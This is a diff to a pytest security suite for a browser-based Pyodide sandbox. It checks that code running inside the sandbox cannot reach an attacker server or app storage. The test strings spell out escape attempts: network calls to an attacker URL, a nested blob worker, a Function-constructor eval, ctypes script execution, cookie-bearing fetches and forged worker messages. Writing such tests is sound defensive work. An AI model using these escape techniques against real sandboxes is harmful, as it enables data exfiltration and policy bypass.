@@ -55,77 +55,142 @@ def open_sandbox(sdk: SdkPage) -> str:
 
 SETTLE = "import asyncio\nawait asyncio.sleep(0.5)\n"
 
+# Each attack with the proof that the browser (or the kernel's audit) saw and refused it: the
+# entry it leaves in audit.networkAttempts (kind, end of the target), or a text the error has.
+# That no request reaches the attacker would also hold for an attempt that never got going.
 ATTACKS = [
-    pytest.param("from js import fetch\nawait fetch('{url}/fetch')", id="js-fetch"),
-    pytest.param("from pyodide.http import pyfetch\nawait pyfetch('{url}/pyfetch')", id="pyfetch"),
+    pytest.param(
+        "from js import fetch\nawait fetch('{url}/fetch')",
+        ("csp:connect-src", "/fetch"),
+        id="js-fetch",
+    ),
+    pytest.param(
+        "from pyodide.http import pyfetch\nawait pyfetch('{url}/pyfetch')",
+        ("csp:connect-src", "/pyfetch"),
+        id="pyfetch",
+    ),
     pytest.param(
         "from js import XMLHttpRequest\nx = XMLHttpRequest.new()\n"
         "x.open('GET', '{url}/xhr', False)\nx.send()",
+        ("csp:connect-src", "/xhr"),
         id="xhr",
     ),
     pytest.param(
-        "from js import WebSocket\nws = WebSocket.new('{ws}/ws')\n" + SETTLE, id="websocket"
+        "from js import WebSocket\nws = WebSocket.new('{ws}/ws')\n" + SETTLE,
+        ("csp:connect-src", "/ws"),
+        id="websocket",
     ),
-    pytest.param("import urllib.request\nurllib.request.urlopen('{url}/urllib')", id="urllib"),
     pytest.param(
-        "from js import importScripts\nimportScripts('{url}/import.js')", id="importScripts"
+        "import js\njs.EventSource.new('{url}/sse')\n" + SETTLE,
+        ("csp:connect-src", "/sse"),
+        id="eventsource",
     ),
+    pytest.param(
+        "from js import importScripts\nimportScripts('{url}/import.js')",
+        ("csp:script-src-elem", "/import.js"),
+        id="importScripts",
+    ),
+    pytest.param(
+        "import js\nawait js.FontFace.new('x', 'url({url}/font.woff)').load()",
+        ("csp:font-src", "/font.woff"),
+        id="font",
+    ),
+    # A worker has no <img>: an image comes in through fetch (then createImageBitmap).
+    pytest.param(
+        "import js\nawait js.createImageBitmap(await (await js.fetch('{url}/img.png')).blob())",
+        ("csp:connect-src", "/img.png"),
+        id="image",
+    ),
+    # No sockets in Pyodide: urllib fails on its own, and the kernel's audit names the attempt.
+    pytest.param(
+        "import urllib.request\nurllib.request.urlopen('{url}/urllib', timeout=2)",
+        ("urllib.Request", "/urllib"),
+        id="urllib",
+    ),
+    # A nested worker's refusals are its own events, not this run's; without the frame's CSP
+    # its fetch would reach the attacker, so no hit is the proof here.
     pytest.param(
         "import js\nfrom pyodide.ffi import to_js\n"
         "blob = js.Blob.new(to_js([\"fetch('{url}/nested')\"]))\n"
         "js.Worker.new(js.URL.createObjectURL(blob))\n" + SETTLE,
+        None,
         id="nested-blob-worker",
     ),
     pytest.param(
         "import js\nfrom pyodide.ffi import to_js\n"
         "Function = to_js({{}}, dict_converter=js.Object.fromEntries).constructor.constructor\n"
         "Function(\"return fetch('{url}/function')\")()\n" + SETTLE,
+        ("csp:script-src", "eval"),
         id="function-constructor",
     ),
+    # Pyodide cannot survive the refused eval: the runtime's failure names the CSP.
     pytest.param(
         "import ctypes\nlib = ctypes.CDLL(None)\n"
         "lib.emscripten_run_script(b\"fetch('{url}/ctypes')\")\n" + SETTLE,
+        "Content Security Policy",
         id="ctypes-run-script",
     ),
-    pytest.param("import js\njs.EventSource.new('{url}/sse')\n" + SETTLE, id="eventsource"),
 ]
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize(("attack", "blocked"), ATTACKS)
 def test_no_request_reaches_another_server(
-    sdk: SdkPage, open_sandbox: str, attacker: Attacker, attack: str
+    sdk: SdkPage, open_sandbox: str, attacker: Attacker, attack: str, blocked: object
 ) -> None:
     code = attack.format(url=attacker.url, ws=attacker.url.replace("http", "ws"))
     result = sdk.run(open_sandbox, code, timeoutMs=10_000)
     assert result["outcome"] != "OUTCOME_POLICY_VIOLATION", "the policy must be off here"
     assert attacker.hits == []
+    if isinstance(blocked, tuple):
+        kind, target_end = blocked
+        attempts = result["audit"]["networkAttempts"]
+        assert any(a["kind"] == kind and a["target"].endswith(target_end) for a in attempts), (
+            attempts
+        )
+    elif isinstance(blocked, str):
+        assert blocked in result["error"]["message"]
     assert sdk.page.evaluate("1 + 1") == 2
 
 
+# Each probe with what it must observe (in its stdout or its error): an opaque origin has no
+# CacheStorage and is denied IndexedDB; a channel or a forged message reaches nobody; the app's
+# runtime files come with cookies asked for, and no secret in them.
 STORAGE_PROBES = [
-    pytest.param("import js\nawait js.caches.keys()", id="cache-storage"),
-    pytest.param("import js\njs.indexedDB.open('app-db')\n" + SETTLE, id="indexeddb"),
-    pytest.param("import js\njs.BroadcastChannel.new('app').postMessage('forged')", id="broadcast"),
+    pytest.param("import js\nawait js.caches.keys()", "caches", id="cache-storage"),
     pytest.param(
-        "import js\nawait js.fetch('/runtime/manifest.json', credentials='include')",
+        "import js\njs.indexedDB.open('app-db')\n" + SETTLE, "SecurityError", id="indexeddb"
+    ),
+    pytest.param(
+        "import js\njs.BroadcastChannel.new('app').postMessage('forged')",
+        "probe done",
+        id="broadcast",
+    ),
+    pytest.param(
+        "import js\nr = await js.fetch('{origin}/runtime/manifest.json', credentials='include')\n"
+        "print('status', r.status)",
+        "status 200",
         id="cookies-with-fetch",
     ),
     pytest.param(
         "import js\njs.postMessage(js.JSON.parse("
         '\'{{"type": "result", "id": 1, "runId": "x", "result": {{}}}}\'))',
+        "probe done",
         id="forged-worker-message",
     ),
 ]
 
 
-@pytest.mark.parametrize("probe", STORAGE_PROBES)
-def test_the_app_storage_is_out_of_reach(sdk: SdkPage, open_sandbox: str, probe: str) -> None:
+@pytest.mark.parametrize(("probe", "observed"), STORAGE_PROBES)
+def test_the_app_storage_is_out_of_reach(
+    sdk: SdkPage, open_sandbox: str, probe: str, observed: str
+) -> None:
     before = sdk.page.evaluate("appStorage.snapshot()")
     assert before["local"] == {"token": "app-secret"} and before["idb"] == "app-secret"
-    result = sdk.run(open_sandbox, probe + "\nprint('probe done')")
+    origin = sdk.page.evaluate("location.origin")
+    result = sdk.run(open_sandbox, probe.format(origin=origin) + "\nprint('probe done')")
     after = sdk.page.evaluate("appStorage.snapshot()")
     assert after == before
-    assert result["stdout"] in ("", "probe done\n")
+    assert observed in result["stdout"] + ((result["error"] or {}).get("message") or "")
     assert "app-secret" not in str(result)
 
 
